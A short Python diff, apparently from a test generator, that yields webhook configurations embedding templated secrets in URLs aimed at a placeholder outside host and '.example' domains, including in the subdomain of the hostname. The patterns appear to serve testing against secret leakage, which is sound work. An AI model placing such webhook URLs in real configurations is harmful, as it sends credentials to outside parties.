@@ -92,7 +92,7 @@ def _of_an_outage(_: Ground, name: str) -> Iterator[dict[str, Any]]:
     for url in (
         f"http://{OUTSIDE}:1/{encoded}?key={encoded}",
         f"http://{encoded}.example/{encoded}",
-        f"http://x{{{{ secrets.{name} | replace('_', 'u') | replace('-', 'm') }}}}.example/",
+        f"http://x{{{{ secrets.{name} }}}}.example/",
     ):
         yield {"type": "webhook", "config": {"url": url, "body": f"{{{{ secrets.{name} }}}}"}}
 
